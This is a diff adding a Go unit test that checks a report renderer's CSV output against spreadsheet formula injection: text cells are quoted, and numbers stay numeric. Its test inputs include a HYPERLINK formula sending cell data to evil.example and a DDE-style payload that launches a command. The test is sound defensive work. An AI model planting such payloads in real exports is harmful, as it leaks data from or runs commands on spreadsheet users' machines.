@@ -231,6 +231,42 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// A text cell a spreadsheet would run as a formula (CSV injection) is
+// neutralised with a leading quote; numbers, negative ones included, stay
+// numbers.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	for _, name := range []string{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+		"\t=1+1", "\r=1+1"} {
+		r := sampleReport("en")
+		r.Community, r.Period.Label = name, name
+		r.Headline = append(r.Headline, Figure{Key: "-" + name, Value: 1, Previous: 4, Unit: "@unit"})
+		rows, err := csv.NewReader(strings.NewReader(render(t, CSV, r))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, row := range rows[1:] {
+			for _, i := range []int{0, 1, 4, 8} { // community, period, metric, unit
+				if c := row[i]; c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
+					t.Errorf("%q: cell %d is %q, which a spreadsheet runs", name, i, c)
+				}
+			}
+			if row[0] != "'"+name {
+				t.Errorf("got community %q, want %q", row[0], "'"+name)
+			}
+			if row[4] == "'-"+name {
+				found = true
+				if row[5] != "1" || row[6] != "4" || row[7] != "-3" || row[8] != "'@unit" {
+					t.Errorf("got %q, want the numbers as numbers (change -3) and the unit neutralised", row[5:])
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%q: no row for the figure", name)
+		}
+	}
+}
+
 func TestJSONRoundTrip(t *testing.T) {
 	in := []*Report{sampleReport("en"), sampleReport("fr"), emptyReport("en")}
 	out := render(t, JSON, in...)
